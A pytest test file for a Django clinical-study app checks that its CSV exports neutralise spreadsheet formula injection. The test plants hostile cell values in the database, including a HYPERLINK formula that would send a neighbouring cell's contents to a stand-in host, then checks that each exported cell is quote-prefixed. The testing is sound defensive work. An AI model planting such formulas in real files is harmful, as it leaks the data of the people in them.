"""No CSV download holds a cell a spreadsheet would run as a formula (OWASP CSV injection).

Hostile values are planted straight in the database (``update()``, past any form or
validator), as an old import, the admin or a raw edit could have left them.
"""

from __future__ import annotations

import csv
import io
from io import StringIO

import pytest
from django.contrib.auth.models import User
from django.core.management import call_command
from django.urls import reverse

from outcomes.followups.models import TimePoint
from outcomes.instruments.models import ResponderRule
from patients.models import Arm, Contact, Patient, Site

# OWASP "CSV Injection": cells starting with these are read as formulas.
FORMULA_START = ("=", "+", "-", "@", "\t", "\r")
HYPERLINK = '=HYPERLINK("http://x?"&C2)'
PLANTED = {
    "full_name": HYPERLINK,
    "mobile": "=HYPERLINK(\"http://x?\"&D2)",
    "email": "-2+3@x",
    "patient": "@SUM(1+1)",
    "arm": "+BMC",
    "site": "-MAIN",
    "baseline": "=baseline",
    "m1": "\tm1",
    "m3": "\r=m3",
    "rule": "=primary",
}


@pytest.fixture
def demo(demo_once):
    """The demo study, loaded once for this module: every test here uses it."""
    return demo_once


def is_number(cell: str) -> bool:
    """A plain decimal number, as a spreadsheet reads one (checked without the app's code)."""
    if not cell or not set(cell) <= set("0123456789+-.eE"):
        return False
    try:
        float(cell)
    except ValueError:
        return False
    return True


def formula_cells(text: str) -> list[str]:
    return [cell for row in csv.reader(io.StringIO(text)) for cell in row
            if cell.startswith(FORMULA_START) and not is_number(cell)]


def cells(text: str) -> set[str]:
    return {cell for row in csv.reader(io.StringIO(text)) for cell in row}


@pytest.fixture
def hostile(demo):
    """The demo study with a formula in every free text and code that reaches a file."""
    patient = Patient.objects.get(code="DEMO-0001")
    Contact.objects.filter(patient=patient).update(
        full_name=PLANTED["full_name"], mobile=PLANTED["mobile"], email=PLANTED["email"])
    Patient.objects.filter(code="DEMO-0002").update(code=PLANTED["patient"])
    Arm.objects.filter(study=demo, code="BMC").update(code=PLANTED["arm"])
    Site.objects.filter(code="MAIN").update(code=PLANTED["site"])
    for code in ("baseline", "m1", "m3"):
        TimePoint.objects.filter(study=demo, code=code).update(code=PLANTED[code])
    ResponderRule.objects.filter(study=demo, code="primary").update(code=PLANTED["rule"])
    return demo


def download(client, url: str) -> str:
    client.force_login(User.objects.get(username="datamanager"))
    reply = client.get(url)
    assert reply.status_code == 200, reply.status_code
    assert reply["Content-Type"].startswith("text/csv")
    if reply.streaming:  # the exports stream as they are read
        return b"".join(reply.streaming_content).decode()
    return reply.content.decode()


def test_the_identified_file_neutralises_the_contact_details(client, hostile):
    text = download(client, reverse("patients:export",
                                    kwargs={"code": hostile.code, "kind": "identified"}))
    assert formula_cells(text) == []
    table = {row["patient"]: row for row in csv.DictReader(io.StringIO(text))}
    # Kept, as text: the data manager still reads what was stored.
    assert table["DEMO-0001"]["full_name"] == "'" + HYPERLINK
    assert table["DEMO-0001"]["email"] == "'-2+3@x"
    assert table["'@SUM(1+1)"]["site"] == "'-MAIN"


@pytest.mark.parametrize("kind", ["tidy", "wide", "items", "dictionary"])
def test_the_de_identified_files_neutralise_codes_from_the_page(client, hostile, kind):
    text = download(client, reverse("patients:export",
                                    kwargs={"code": hostile.code, "kind": kind}))
    assert formula_cells(text) == []
    assert any(cell.startswith("'") for cell in cells(text)), "the planted codes reach it"


@pytest.mark.parametrize("kind", ["tidy", "wide", "items", "dictionary"])
def test_the_de_identified_files_neutralise_codes_from_the_command(hostile, kind):
    out = StringIO()
    call_command("export_study", "--study", hostile.code, "--format", kind, stdout=out)
    assert formula_cells(out.getvalue()) == []
    assert any(cell.startswith("'") for cell in cells(out.getvalue()))


def test_the_tidy_file_keeps_its_values_numbers(client, hostile):
    text = download(client, reverse("patients:export",
                                    kwargs={"code": hostile.code, "kind": "tidy"}))
    rows = list(csv.DictReader(io.StringIO(text)))
    valued = [row for row in rows if not row["missing_reason"]]
    assert valued and all(is_number(row["value"]) for row in valued)
    assert any(row["value"].startswith("-") for row in valued)  # EQ-5D below 0 stays a number
    assert {"'=baseline", "'\tm1", "'\r=m3"} <= {row["timepoint"] for row in rows}
    assert {"'+BMC", "CONTROL"} == {row["arm"] for row in rows}


def test_the_results_file_from_the_page_neutralises_arm_time_point_and_rule(client, hostile):
    text = download(client, reverse("patients:results", kwargs={"code": hostile.code})
                    + "?format=csv")
    assert formula_cells(text) == []
    values = cells(text)
    assert {"'+BMC", "'=baseline", "'=primary"} <= values
    # Negative changes and CIs stay numbers a statistician's reader parses.
    negatives = [cell for cell in values if cell.startswith("-")]
    assert negatives and all(is_number(cell) for cell in negatives)


def test_the_results_file_from_the_command_neutralises_arm_time_point_and_rule(hostile):
    out = StringIO()
    call_command("results", "--study", hostile.code, "--format", "csv", stdout=out)
    assert formula_cells(out.getvalue()) == []
    assert {"'+BMC", "'=baseline", "'=primary"} <= cells(out.getvalue())
